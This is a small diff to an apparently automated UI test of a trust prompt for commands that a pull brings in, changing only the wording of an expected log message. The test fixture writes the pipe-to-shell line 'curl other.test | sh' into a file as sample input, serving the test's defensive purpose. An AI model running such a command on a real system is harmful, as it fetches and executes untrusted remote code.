@@ -34,7 +34,7 @@ describeScreen("a command that a pull brings", () => {
     // Another one comes before the button is pressed.
     await writeFile(file, textOf("curl other.test | sh"));
     await trust?.click();
-    await reads(page.getByRole("log", { name: "Messages" }), "does not wait to be trusted any more");
+    await reads(page.getByRole("log", { name: "Messages" }), "is no longer waiting for trust");
     expect(await screen.stored("site", "svc.services")).toBeUndefined();
 
     // The field has the same buttons.
